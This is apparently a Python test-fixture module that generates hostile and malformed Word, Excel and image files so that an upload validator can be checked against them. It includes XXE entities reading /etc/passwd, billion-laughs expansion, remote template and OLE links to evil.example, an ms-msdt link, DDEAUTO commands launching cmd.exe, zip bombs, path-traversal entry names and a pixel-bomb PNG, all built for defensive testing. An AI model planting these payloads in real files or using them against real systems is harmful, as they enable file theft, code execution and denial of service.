"""Files made to do harm or broken on the way, by name: what an upload must refuse. All are made here, none is kept.

Each maker returns the bytes; the name's ending is what the file pretends to be.
"""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import docx
import openpyxl
from PIL import Image

from trust.zip_guard import MEGABYTE

Maker = Callable[[], bytes]

DOCTYPES = {
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "entity of the web": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/x">]>',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>',
    "definition": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
}
PARTS = {
    "docx": (
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/core.xml",
        "word/document.xml",
        "word/styles.xml",
        "word/numbering.xml",
        "word/settings.xml",
        "word/_rels/document.xml.rels",
    ),
    "xlsx": ("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"),
}
RELATION = (
    '<Relationship Id="evil" TargetMode="External" Target="{target}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
)
OUTSIDE = {
    "template of the web": ("attachedTemplate", "https://evil.example/x.dotm"),
    "linked object": ("oleObject", "http://evil.example/x.hta!"),
    "linked picture": ("image", "http://evil.example/pixel.png"),
    "linked frame": ("frame", "\\\\evil.example\\share\\x.htm"),
    "sub-document": ("subDocument", "file:///etc/passwd"),
    "script as a link": ("hyperlink", "javascript:alert(1)"),
    "tool as a link": ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
}


def word(*lines: str) -> bytes:
    """An honest Word file."""
    out = io.BytesIO()
    document = docx.Document()
    for line in lines or ("Leadership",):
        document.add_paragraph(line)
    document.save(out)
    return out.getvalue()


def excel() -> bytes:
    """An honest workbook."""
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.create_sheet("A")["A1"] = "Area"
    book.save(out)
    return out.getvalue()


HONEST: dict[str, Maker] = {"docx": word, "xlsx": excel}


def with_parts(base: bytes, **options: Any) -> bytes:
    """The file again: `change` (name: function of its bytes) and `more` (name: bytes)."""
    change, more = options.get("change", {}), options.get("more", {})
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as old,
        zipfile.ZipFile(out, "w", options.get("packing", zipfile.ZIP_DEFLATED)) as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change[name](content) if name in change else content)
        for name, content in more.items():
            new.writestr(name, content)
    return out.getvalue()


def declaring(kind: str, part: str, doctype: str) -> bytes:
    """With a definition before the first element of one part."""

    def declare(content: bytes) -> bytes:
        at = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
        return content[:at] + doctype.encode() + content[at:]

    return with_parts(HONEST[kind](), change={part: declare})


def in_utf_16(kind: str, part: str) -> bytes:
    """A definition that a search through the bytes would miss."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return with_parts(HONEST[kind](), change={part: lambda _content: text.encode("utf-16")})


def reaching_out(kind: str, target: str) -> bytes:
    """With a relation to another place."""
    line = RELATION.format(kind=kind, target=target).encode()
    name = "word/_rels/document.xml.rels"
    return with_parts(
        word(), change={name: lambda content: content.replace(b"</Relationships>", line + b"</Relationships>")}
    )


def typed(kind: str, replaced: str, by: str) -> bytes:
    """With another type of its main part."""
    change = {"[Content_Types].xml": lambda content: content.replace(replaced.encode(), by.encode())}
    return with_parts(HONEST[kind](), change=change)


def encrypted(base: bytes) -> bytes:
    """Says of each part that it has a password."""
    raw = bytearray(base)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := raw.find(mark, at + 1)) >= 0:
            raw[at + offset] |= 1
    return bytes(raw)


def overlapping() -> bytes:
    """Two directory entries for the same bytes."""
    raw = bytearray(with_parts(word(), more={"a": b"hello", "b": b"world"}))
    entries, at = [], 0
    while (at := raw.find(b"PK\x01\x02", at)) >= 0:
        entries.append(at)
        at += 4
    struct.pack_into("<L", raw, entries[-1] + 42, struct.unpack_from("<L", raw, entries[-2] + 42)[0])
    return bytes(raw)


def lying_size() -> bytes:
    """The directory says one byte, the part holds a thousand."""
    raw = with_parts(excel(), more={"big": os.urandom(1000)})
    at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(b"big") + 3)
    return raw[: at + 24] + struct.pack("<L", 1) + raw[at + 28 :]


def half(content: bytes) -> bytes:
    """Cut in the middle."""
    return content[: len(content) // 2]


def zipped(parts: dict[str, bytes]) -> bytes:
    """Any zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def nested() -> bytes:
    """Archives in archives in archives, each of them small."""
    inner = zipped({"zeros": b"0" * MEGABYTE})
    for _ in range(4):
        inner = zipped({"inner.zip": inner})
    return with_parts(word(), more={"word/embeddings/inner.zip": inner})


def picture(form: str = "PNG", size: tuple[int, int] = (20, 10), mode: str = "RGB") -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new(mode, size).save(out, form)
    return out.getvalue()


def lying_picture(width: int = 65_000, height: int = 65_000) -> bytes:
    """A PNG of a few bytes that says it has four thousand million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))

    head = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"x")) + chunk(b"IEND", b"")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PROGRAM = b"MZ\x90\x00" + b"\x00" * 300
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\n"
RTF = b"{\\rtf1 hello}"
MAIN = "application/vnd.openxmlformats-officedocument.{}.main+xml"
WORD_MAIN, EXCEL_MAIN = MAIN.format("wordprocessingml.document"), MAIN.format("spreadsheetml.sheet")
DDE = (
    b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p><w:sectPr'
)


def _files() -> dict[str, tuple[str, Maker]]:
    found: dict[str, tuple[str, Maker]] = {
        # Bombs
        "bomb of one part": ("a.docx", lambda: with_parts(word(), more={"word/x.xml": b"0" * (49 * MEGABYTE)})),
        "bomb of the text itself": (
            "a.docx",
            lambda: with_parts(word(), change={"word/document.xml": lambda _c: b"<x>" + b" " * (45 * MEGABYTE)}),
        ),
        "bomb of many parts": (
            "a.xlsx",
            lambda: with_parts(excel(), more={f"p{n}": b"0" * MEGABYTE for n in range(60)}),
        ),
        "thousands of parts": ("a.docx", lambda: with_parts(word(), more={f"p{n}": b"x" for n in range(3000)})),
        "archives in archives": ("a.docx", nested),
        "overlapping parts": ("a.docx", overlapping),
        "size that lies": ("a.xlsx", lying_size),
        "packed with bzip2": ("a.docx", lambda: with_parts(word(), packing=zipfile.ZIP_BZIP2)),
        "packed with lzma": ("a.xlsx", lambda: with_parts(excel(), packing=zipfile.ZIP_LZMA)),
        "too big": ("a.docx", lambda: with_parts(word(), more={"word/media/x": os.urandom(11 * MEGABYTE)})),
        # Macros and programs
        "macro word": ("a.docm", word),
        "macro word by its type": (
            "a.docx",
            lambda: typed("docx", WORD_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        "macro excel": ("a.xlsm", excel),
        "macro excel by its type": (
            "a.xlsx",
            lambda: typed("xlsx", EXCEL_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ),
        "template as document": (
            "a.docx",
            lambda: typed("docx", WORD_MAIN, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        ),
        "macros inside word": ("a.docx", lambda: with_parts(word(), more={"word/vbaProject.bin": OLE})),
        "macros inside excel": ("a.xlsx", lambda: with_parts(excel(), more={"xl/VBAPROJECT.BIN": OLE})),
        "macro data": ("a.docx", lambda: with_parts(word(), more={"word/vbaData.xml": b"<x/>"})),
        "macro document inside": (
            "a.docx",
            lambda: with_parts(
                word(),
                more={"word/embeddings/x.xlsx": with_parts(excel(), more={"xl/vbaProject.bin": OLE})},
            ),
        ),
        "active controls": ("a.docx", lambda: with_parts(word(), more={"word/activeX/activeX1.xml": b"<x/>"})),
        "program inside": ("a.docx", lambda: with_parts(word(), more={"word/embeddings/x.bin": PROGRAM})),
        "command in the text": (
            "a.docx",
            lambda: with_parts(
                word(), change={"word/document.xml": lambda content: content.replace(b"<w:sectPr", DDE, 1)}
            ),
        ),
        "command in a workbook": (
            "a.xlsx",
            lambda: with_parts(
                excel(),
                more={
                    "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeTopic="/c calc"/></externalLink>'
                },
            ),
        ),
        # Something else under a good name
        "program named word": ("a.docx", lambda: PROGRAM),
        "program named excel": ("a.xlsx", lambda: PROGRAM),
        "page named word": ("a.docx", lambda: HTML),
        "pdf named word": ("a.docx", lambda: PDF),
        "pdf named excel": ("a.xlsx", lambda: PDF),
        "rtf named word": ("a.docx", lambda: RTF),
        "old word or password": ("a.docx", lambda: OLE),
        "old excel or password": ("a.xlsx", lambda: OLE),
        "old word": ("a.doc", lambda: OLE),
        "excel named word": ("a.docx", excel),
        "word named excel": ("a.xlsx", word),
        "any zip named word": ("a.docx", lambda: zipped({"readme.txt": b"hello"})),
        "zip with types only": ("a.docx", lambda: zipped({"[Content_Types].xml": b"<Types/>"})),
        "program": ("a.exe", lambda: PROGRAM),
        "two endings": ("a.docx.exe", word),
        "empty word": ("a.docx", lambda: b""),
        "empty picture": ("a.png", lambda: b""),
        # Broken
        "half a word file": ("a.docx", lambda: half(word())),
        "half a workbook": ("a.xlsx", lambda: half(excel())),
        "word with a tail": ("a.docx", lambda: word() + HTML),
        "word behind something": ("a.docx", lambda: b"PK\x03\x04xx" + word()),
        "pdf and word at once": ("a.pdf", lambda: PDF[:9] + word() + PDF[9:]),
        "picture and word at once": ("a.docx", lambda: picture() + word()),
        "wrong checksum": (
            "a.docx",
            lambda: with_parts(word(), packing=zipfile.ZIP_STORED).replace(b"Leadership", b"Leadershit"),
        ),
        "text that is no xml": (
            "a.docx",
            lambda: with_parts(word(), change={"word/document.xml": lambda _content: b"hello"}),
        ),
        "types that are no xml": (
            "a.docx",
            lambda: with_parts(word(), change={"[Content_Types].xml": lambda _content: b"hello"}),
        ),
        # Names and passwords
        "climbing part": ("a.docx", lambda: with_parts(word(), more={"../../evil": b"x"})),
        "absolute part": ("a.docx", lambda: with_parts(word(), more={"/etc/evil": b"x"})),
        "backslash part": ("a.xlsx", lambda: with_parts(excel(), more={"..\\evil": b"x"})),
        "drive part": ("a.xlsx", lambda: with_parts(excel(), more={"C:/evil": b"x"})),
        "password": ("a.docx", lambda: encrypted(word())),
        "password on a workbook": ("a.xlsx", lambda: encrypted(excel())),
        # Pictures
        "picture that lies": ("a.png", lying_picture),
        "picture too large": ("a.png", lambda: picture(size=(6000, 5000), mode="1")),
        "picture of one line": ("a.png", lambda: lying_picture(2**31 - 1, 1)),
        "half a picture": ("a.png", lambda: half(picture())),
        "half a photograph": ("a.jpg", lambda: half(picture("JPEG", (400, 400)))),
        "drawing named picture": ("a.png", lambda: SVG),
        "drawing": ("a.svg", lambda: SVG),
        "page named photograph": ("a.jpg", lambda: HTML),
        "program named picture": ("a.png", lambda: PROGRAM),
        "other picture": ("a.png", lambda: picture("GIF")),
    }
    for kind, parts in PARTS.items():
        for part in parts:
            doctype = DOCTYPES["external entity"]
            found[f"external entity in {part} of {kind}"] = (
                f"a.{kind}",
                lambda kind=kind, part=part, doctype=doctype: declaring(kind, part, doctype),
            )
    for label, doctype in DOCTYPES.items():
        found[f"{label} in the text"] = ("a.docx", lambda d=doctype: declaring("docx", "word/document.xml", d))
    found["hidden definition"] = ("a.docx", lambda: in_utf_16("docx", "word/document.xml"))
    found["hidden definition in a workbook"] = ("a.xlsx", lambda: in_utf_16("xlsx", "xl/workbook.xml"))
    for label, (kind, target) in OUTSIDE.items():
        found[label] = ("a.docx", lambda k=kind, t=target: reaching_out(k, t))
    return found


HOSTILE = _files()
